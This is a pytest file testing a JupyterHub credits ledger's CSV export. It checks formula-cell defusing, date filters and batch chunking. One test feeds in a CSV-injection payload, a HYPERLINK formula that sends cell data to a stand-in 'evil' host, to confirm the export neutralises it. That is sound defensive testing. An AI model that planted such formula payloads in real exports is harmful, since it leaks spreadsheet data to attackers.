"""The CSV export: formula cells defused, date filters, chunks (SQLite and PostgreSQL)."""

from __future__ import annotations

import csv
import io
from datetime import timedelta

import pytest

from jupyterhub_credits.ledger.export import csv_chunks, defuse
from jupyterhub_credits.ledger.records import CSV_COLUMNS

pytestmark = pytest.mark.usefixtures("ledger_verifies_after")


@pytest.mark.parametrize("cell, expected", [
    ("=1+1", "'=1+1"),
    ("+1", "'+1"),
    ("-1", "'-1"),
    ("@SUM(A1)", "'@SUM(A1)"),
    ("\tx", "'\tx"),
    ("\rx", "'\rx"),
    ("plain", "plain"),
    ("", ""),
    (" =not at the start", " =not at the start"),
    ("1.50", "1.50"),
    ("a=b", "a=b"),
])
def test_defuse(cell, expected):
    assert defuse(cell) == expected


def read(chunks) -> list[dict]:
    return list(csv.DictReader(io.StringIO("".join(chunks))))


def test_formula_cells_come_out_as_text(ledger):
    ledger.grant("alice", 1_500, key="-2+3", reason='=HYPERLINK("http://evil/?"&A1,"x")',
                 actor="@mallory", metadata={"note": "=1"})
    rows = read(csv_chunks(ledger))
    assert len(rows) == 1
    row = rows[0]
    assert row["reason"] == '\'=HYPERLINK("http://evil/?"&A1,"x")'
    assert row["key"] == "'-2+3"
    assert row["actor"] == "'@mallory"
    assert row["metadata"] == '{"note": "=1"}'
    assert (row["kind"], row["debit"], row["credit"], row["amount"], row["units"]) == (
        "grant", "system:issuance", "user:alice", "1.50", "1500")
    # No cell of the file starts a formula.
    for row in rows:
        assert not any(value.startswith(("=", "+", "-", "@", "\t", "\r"))
                       for value in row.values())


def test_header_and_columns(ledger):
    chunks = list(csv_chunks(ledger))
    assert chunks == [",".join(CSV_COLUMNS) + "\r\n"]  # an empty log: just the header


def test_date_filters(ledger, clock):
    start = clock.now
    ledger.grant("alice", 1_000, key="day0", reason="r", actor="a")
    clock.advance(days=1)
    ledger.grant("alice", 1_000, key="day1", reason="r", actor="a")
    clock.advance(days=1)
    ledger.grant("alice", 1_000, key="day2", reason="r", actor="a")

    def keys(**window):
        return [row["key"] for row in read(csv_chunks(ledger, **window))]

    assert keys() == ["day0", "day1", "day2"]
    assert keys(since=start + timedelta(days=1)) == ["day1", "day2"]
    assert keys(until=start + timedelta(days=1)) == ["day0"]  # until is exclusive
    assert keys(since=start + timedelta(hours=1), until=start + timedelta(days=2)) == ["day1"]
    assert keys(since=start + timedelta(days=3)) == []


def test_one_chunk_per_batch(ledger):
    for i in range(7):
        ledger.grant("alice", 10 + i, key=f"g{i}", reason=f"line\nbreak {i}", actor="a")
    chunks = list(csv_chunks(ledger, batch=3))
    assert len(chunks) == 1 + 3  # header, 3 + 3 + 1 rows
    assert [len(read([chunks[0], chunk])) for chunk in chunks[1:]] == [3, 3, 1]
    rows = read(chunks)
    assert [row["units"] for row in rows] == [str(10 + i) for i in range(7)]
    assert rows[6]["reason"] == "line\nbreak 6"


def test_bad_batch(ledger):
    with pytest.raises(ValueError):
        next(csv_chunks(ledger, batch=0))
